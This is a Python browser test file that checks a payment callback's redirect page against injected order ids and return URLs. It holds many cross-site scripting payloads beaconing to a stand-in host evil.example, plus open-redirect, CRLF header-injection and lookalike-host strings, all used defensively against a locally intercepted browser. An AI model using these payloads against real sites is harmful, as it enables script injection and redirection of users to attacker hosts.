"""The page in a real browser: whatever an order's id or return URL holds, it leads to the shop and nowhere else."""

from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, Route, sync_playwright

from callback.processor import redirect
from callback.settings import read_settings
from tests.support.aws import ORDER, PARAMETERS
from tests.support.programs import program
from tests.support.template import resolved

# Measuring doubles the time, and what this goes through is measured elsewhere.
pytestmark = [pytest.mark.enable_socket, pytest.mark.no_cover]

OURS, SHOP = "http://callback.example/", "http://shop.example"
HOME = f"shop.example/orders/{ORDER}"
_ENVIRONMENT = resolved(**PARAMETERS)["RecheckFunction"]["Properties"]["Environment"]["Variables"]
_ORIGINS = {"REDIRECT_URL_TEMPLATE": f"{SHOP}/orders/{{orderId}}", "REDIRECT_ALLOWED_ORIGINS": SHOP}
SETTINGS = read_settings(_ENVIRONMENT | _ORIGINS)
CALL = "navigator.sendBeacon('//evil.example')"
SCRIPTS = [f"<script>{CALL}</script>", f'"><script>{CALL}</script>', f"'><script>{CALL}</script>"]
SCRIPTS += [f"--></title></style><script>{CALL}</script>", f"&quot;&gt;&lt;script&gt;{CALL}"]
SCRIPTS += [
    f"\uff02\uff1e\uff1cscript>{CALL}</script>",
    f'\0"\0><\0script>{CALL}</script>',
    f"+ACIAPgA8-script+AD4-{CALL}",
]
SCRIPTS += [
    f'"><img src=x onerror="{CALL}">',
    f"'\"><svg onload={CALL}>",
    f'"><iframe src="javascript:{CALL}"></iframe>',
]
SCRIPTS += [f'" onfocus="{CALL}" autofocus style="background:url(//evil.example)', '"><base href=//evil.example/>']
SCRIPTS += ['"><meta http-equiv=refresh content="0;url=http://evil.example/">']
SCRIPTS += ['"><iframe src=//evil.example></iframe><object data=//evil.example></object>']
SCRIPTS += ['"><link rel=stylesheet href=//evil.example><style>@import"//evil.example"</style>']
SCRIPTS += ['\u2028"\r\n><style>*{background:url(//evil.example)}</style>']
PLACES = ["http://evil.example/", "https:evil.example", "//evil.example/", "/\\evil.example/", "\\\\evil.example\\"]
PLACES += ["/\t/evil.example/", "\x01\n http://evil.example/", f"{SHOP}@evil.example/", f"{SHOP}.evil.example/"]
PLACES += [
    f"{SHOP}:8080/",
    "..//evil.example/",
    "http://evil.example\\@shop.example/",
    "http://evil.example#@shop.example/",
]
PLACES += ["http://sh\u043ep.example/", "0;url=http://evil.example/", "';url=http://evil.example/"]
PLACES += ['"; url="http://evil.example/']
# What turns `http://shop.example` into another site, were it to follow at once.
TAILS = ["@evil.example/", ":80@evil.example/", ".evil.example/", "\\@evil.example/", "\t@evil.example/"]
TAILS += ["\r\n.evil.example/", "%40evil.example/", "%0d%0aLocation:%20http://evil.example/", "\u3002evil.example/"]
TAILS += ["\uff20evil.example/", "\uff0f@evil.example/", "\u00ad.evil.example/"]
PLAIN = {"Content-Type": "text/html; charset=utf-8"}
BAD_PAGES = {
    "script": "<script>navigator.sendBeacon('//script.evil.example')</script>",
    "location": "<script>location='//location.evil.example'</script>",
    "error": "<img src=x: onerror=\"navigator.sendBeacon('//error.evil.example')\">",
    "svg": "<svg onload=\"navigator.sendBeacon('//svg.evil.example')\"></svg>",
    "image": "<img src=//image.evil.example>",
    "tls": "<img src=https://tls.evil.example>",
    "frame": "<iframe src=//frame.evil.example></iframe>",
    "sheet": "<link rel=stylesheet href=//sheet.evil.example>",
    "style": "<style>@import '//style.evil.example';</style>",
    "base": "<base href=//base.evil.example><img src=/>",
}


@dataclass
class Visitor:
    """A browser that reaches nobody: each request is answered here, and noted."""

    page: Page
    body: str = ""
    headers: dict[str, str] = field(default_factory=dict)
    asked: list[str] = field(default_factory=list)

    def visit(self, body: object, headers: Any) -> list[str]:
        """Open our page, follow where it leads, and return what was asked for, as `host/path`."""
        self.body, self.headers = str(body), headers
        self.asked.clear()
        with self.page.expect_navigation(url=lambda url: url != OURS, wait_until="load"):
            self.page.goto(OURS, wait_until="commit")
        return list(self.asked)

    def answer(self, route: Route) -> None:
        """Serve the page under test; every other document is empty."""
        request = route.request
        if request.url == OURS:
            route.fulfill(body=self.body, headers=self.headers)
            return
        self.asked.append(request.url.partition("://")[2])
        if request.is_navigation_request():
            route.fulfill(body="", content_type="text/html")
        else:
            route.abort()


@pytest.fixture(scope="module")
def visitor() -> Iterator[Visitor]:
    """One browser for all pages."""
    found = program("chromium", "chromium-browser", "google-chrome", package="chromium")
    with sync_playwright() as playwright, playwright.chromium.launch(executable_path=found) as browser:
        visitor = Visitor(browser.new_page())
        visitor.page.route("**/*", visitor.answer)
        yield visitor


@pytest.mark.parametrize("payload", SCRIPTS + PLACES + TAILS, ids=ascii)
def test_no_text_runs_a_script_or_leads_away(visitor: Visitor, payload: str) -> None:
    """In a return URL or as an order id it makes one request, the shop's; with scripts also without a policy."""
    url, leads_to = (f"{SHOP}{payload}", HOME) if payload in TAILS else (f"{SHOP}/{payload}", "shop.example/")
    pages = [(redirect(ORDER, url, SETTINGS), leads_to)]
    if payload in SCRIPTS:
        pages.append((redirect(payload, None, SETTINGS), f"shop.example/orders/{quote(payload, safe='')}"))
    for page, expected in pages:
        [asked] = visitor.visit(page["body"], PLAIN if payload in SCRIPTS else page["headers"])
        assert asked.startswith(expected)


@pytest.mark.parametrize("name", BAD_PAGES)
def test_policy_stops_what_would_get_in(visitor: Visitor, name: str) -> None:
    """Without the policy a bad page is seen to ask a stranger; with it, it does nothing but lead to the shop."""
    page = BAD_PAGES[name] + f'<meta http-equiv="refresh" content="0;url=http://{HOME}">'
    assert f"{name}.evil.example/" in visitor.visit(page, PLAIN)
    assert visitor.visit(page, redirect(ORDER, None, SETTINGS)["headers"]) == [HOME]
